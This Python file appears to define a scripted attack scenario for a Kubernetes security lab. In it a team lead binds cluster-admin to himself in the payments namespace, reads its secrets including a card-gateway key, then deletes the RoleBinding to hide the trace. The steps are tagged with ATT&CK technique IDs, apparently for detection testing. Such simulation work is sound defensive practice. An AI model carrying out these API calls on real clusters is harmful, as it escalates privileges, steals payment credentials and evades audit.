"""A team lead with `bind` in the team's namespace gives himself everything there, then uses it."""

from lab.manifests import binding, user
from lab.story import Scenario, Stage


def _play(stage: Stage) -> None:
    bob = stage.person("bob")
    name = stage.word("ledger-maintainers", "release-helpers", "payments-ops")
    body = binding(name, "cluster-admin", [user(bob.identity.name)], cluster=False)
    with stage.step("bind cluster-admin to himself", bob, "privilege-escalation", ("E01", "E03", "E13")):
        stage.must(stage.create(bob, body, "payments"))
    with stage.step("use the new right", bob, "credential-access", ("F01", "F03", "N12")):
        bob.get("/api/v1/namespaces/payments/secrets?limit=500")
        bob.get("/api/v1/namespaces/payments/secrets/card-gateway")
    with stage.step("remove the trace", bob, "defense-evasion", ("E03", "N12")):
        bob.delete(f"/apis/rbac.authorization.k8s.io/v1/namespaces/payments/rolebindings/{name}")


SCENARIO = Scenario(
    "self-admin",
    "A team lead binds cluster-admin to himself",
    "attack",
    "read the payment provider's key",
    ("T1098.006", "T1552.007"),
    _play,
)
